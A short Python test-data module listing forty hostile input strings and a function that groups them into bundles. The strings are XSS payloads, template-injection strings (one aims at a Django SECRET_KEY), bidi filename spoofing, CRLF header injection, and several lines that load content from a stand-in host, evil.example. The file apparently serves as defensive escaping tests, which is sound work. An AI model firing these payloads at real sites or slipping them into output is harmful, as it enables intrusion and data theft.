"""Forty hostile texts: markup, scripts, template syntax and control characters."""

STRINGS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</title><svg onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "</textarea></pre></script><script>alert(1)</script>",
    '" x-init="alert(1)" x-data="',
    "javascript:alert(1)",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form><button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x';</style>",
    "<template shadowrootmode=open><img src onerror=alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div x-data x-init=alert(1)>",
    "<p x-html=alert(1) x-data>",
    "{% load admin %}{{ settings.SECRET_KEY }}",
    "{{#each this}}{{.}}{{/each}}{{{x}}}",
    "${alert(1)}`${alert(1)}`",
    "*/alert(1)/*",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202egnp.exe.elif\u202c",
    "\u2066\u202etxt.<script>alert(1)</script>\u2069",
    "\u2028\u2029</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script>",
    '=HYPERLINK("javascript:alert(1)")%0d%0aX-Evil: 1',
)  # fmt: skip


def bundles(count: int) -> list[str]:
    """Join the texts into `count` strings, to open each page fewer times."""
    return [" ".join(STRINGS[start::count]) for start in range(count)]
